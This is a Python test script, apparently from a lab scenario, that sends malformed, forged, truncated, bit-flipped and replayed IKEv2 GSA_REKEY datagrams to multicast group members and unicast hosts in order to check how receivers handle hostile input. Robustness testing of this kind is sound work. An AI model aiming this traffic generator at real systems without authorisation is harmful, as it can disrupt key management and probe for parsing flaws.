#!/usr/bin/env python3
"""Send hostile GSA_REKEY-like datagrams at group members (lab only; Python 3 stdlib).

  send_garbage.py --pcap capture.pcap --group 239.1.1.1 --group-port 500
                  --target 198.51.100.12 --target 198.51.100.13 [--iface eth0]
                  [--seed N] [--rounds N] [--interval S]

Run inside an attacker's host namespace (the bad-input scenario's "mallory"). It sends,
to the group address (multicast, port --group-port) and to every --target on UDP 500
and 4500 (4500 with the 4-octet non-ESP marker, and once without it, which a receiver
must treat as ESP):

  garbage     random octets of random length (0..600)
  fake        a well-formed IKEv2 header, exchange 41 (GSA_REKEY), random SPIs and
              a random "SK" body (like the feasibility study's send_rekey.py)
  truncated   each genuine GSA_REKEY from --pcap cut at several lengths, once with
              the header length fixed up and once as is
  bitflip     each genuine GSA_REKEY with one octet of the body changed
  replay      each genuine GSA_REKEY exactly as captured (same SPIs and Message ID)

"Genuine" GSA_REKEY datagrams are read from the capture (classic pcap, Ethernet, IPv4,
UDP 500 or 4500 with marker; IKEv2 header with exchange type 41). Prints one line per
category with the number sent, and "replayed N" (N = 0 if the capture had none).
Bounded: --rounds (default 2) passes over all categories, --interval between datagrams.
"""

import argparse
import random
import socket
import struct
import sys
import time

GSA_REKEY = 41


def read_pcap(path):
    """Yield (src, dst, sport, dport, udp_payload) of IPv4/UDP packets."""
    with open(path, "rb") as f:
        data = f.read()
    if len(data) < 24:
        return
    magic = data[:4]
    if magic in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1"):
        e = "<"
    elif magic in (b"\xa1\xb2\xc3\xd4", b"\xa1\xb2\x3c\x4d"):
        e = ">"
    else:
        raise SystemExit("send_garbage: %s is not a classic pcap file" % path)
    linktype = struct.unpack(e + "I", data[20:24])[0]
    off = 24
    while off + 16 <= len(data):
        _, _, incl, _ = struct.unpack(e + "IIII", data[off:off + 16])
        frame = data[off + 16:off + 16 + incl]
        off += 16 + incl
        if linktype == 1:                       # Ethernet
            if len(frame) < 14:
                continue
            etype = struct.unpack("!H", frame[12:14])[0]
            p = 14
            if etype == 0x8100:
                etype = struct.unpack("!H", frame[16:18])[0]
                p = 18
            if etype != 0x0800:
                continue
            ip = frame[p:]
        elif linktype in (101, 228):            # raw IPv4
            ip = frame
        else:
            continue
        if len(ip) < 20 or ip[0] >> 4 != 4 or ip[9] != 17:
            continue
        ihl = (ip[0] & 0xF) * 4
        udp = ip[ihl:]
        if len(udp) < 8:
            continue
        sport, dport, ulen = struct.unpack("!HHH", udp[:6])
        yield (socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20]), sport, dport, udp[8:ulen])


def genuine_rekeys(path):
    out = []
    seen = set()
    for src, dst, sport, dport, payload in read_pcap(path):
        ike = payload
        if 4500 in (sport, dport):
            if payload[:4] != b"\0\0\0\0":
                continue
            ike = payload[4:]
        elif 500 not in (sport, dport):
            continue
        if len(ike) < 28 or ike[17] != 0x20 or ike[18] != GSA_REKEY:
            continue
        if ike in seen:
            continue
        seen.add(ike)
        out.append((src, dst, dport, ike))
    return out


def fake_rekey(rnd):
    body_len = rnd.randint(16, 200)
    body = struct.pack("!BBH", 0, 0, 4 + body_len) + bytes(rnd.getrandbits(8) for _ in range(body_len))
    hdr = (bytes(rnd.getrandbits(8) for _ in range(16)) +
           struct.pack("!BBBBII", 46, 0x20, GSA_REKEY, 0x08, rnd.randint(0, 5), 28 + len(body)))
    return hdr + body


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--pcap", help="capture with genuine GSA_REKEY datagrams")
    ap.add_argument("--group", default="239.1.1.1")
    ap.add_argument("--group-port", type=int, default=500)
    ap.add_argument("--target", action="append", default=[], help="unicast victim (repeatable)")
    ap.add_argument("--iface", default="eth0", help="interface for multicast")
    ap.add_argument("--seed", type=int, default=9838)
    ap.add_argument("--rounds", type=int, default=2)
    ap.add_argument("--interval", type=float, default=0.01)
    a = ap.parse_args()
    rnd = random.Random(a.seed)

    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    try:
        idx = socket.if_nametoindex(a.iface)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF,
                     struct.pack("=4s4si", b"\0" * 4, b"\0" * 4, idx))
    except OSError as e:
        print("send_garbage: %s: %s (multicast uses the default route)" % (a.iface, e))

    # (address, port, non-ESP marker)
    dests = [(a.group, a.group_port, a.group_port == 4500)]
    for t in a.target:
        dests += [(t, 500, False), (t, 4500, True)]

    counts = {}

    def send(kind, data, dest=None, marker=None):
        for addr, port, mk in ([dest] if dest else dests):
            m = mk if marker is None else marker
            try:
                s.sendto((b"\0\0\0\0" if m else b"") + data, (addr, port))
                counts[kind] = counts.get(kind, 0) + 1
            except OSError as e:
                print("send_garbage: %s to %s:%d: %s" % (kind, addr, port, e))
            time.sleep(a.interval)

    genuine = genuine_rekeys(a.pcap) if a.pcap else []
    print("send_garbage: %d genuine GSA_REKEY datagram(s) in the capture" % len(genuine))
    for _ in range(a.rounds):
        for _ in range(5):
            send("garbage", bytes(rnd.getrandbits(8) for _ in range(rnd.randint(0, 600))))
        for _ in range(5):
            send("fake", fake_rekey(rnd))
        for t in a.target:                      # port 4500 without marker: must be taken as ESP
            send("fake-no-marker", fake_rekey(rnd), dest=(t, 4500, False))
        for _, _, _, ike in genuine:
            for cut in sorted({28, 32, len(ike) // 2, len(ike) - 1, len(ike) - 16}):
                if 0 < cut < len(ike):
                    t = bytearray(ike[:cut])
                    send("truncated", bytes(t))
                    if cut >= 28:
                        t[24:28] = struct.pack("!I", cut)
                        send("truncated", bytes(t))
            f = bytearray(ike)
            pos = rnd.randint(28, len(f) - 1) if len(f) > 28 else len(f) - 1
            f[pos] ^= 0x5A
            send("bitflip", bytes(f))
            send("replay", ike)
    for k in ("garbage", "fake", "fake-no-marker", "truncated", "bitflip", "replay"):
        print("send_garbage: %-15s %d datagram(s)" % (k, counts.get(k, 0)))
    print("replayed %d" % counts.get("replay", 0))
    return 0


if __name__ == "__main__":
    sys.exit(main())
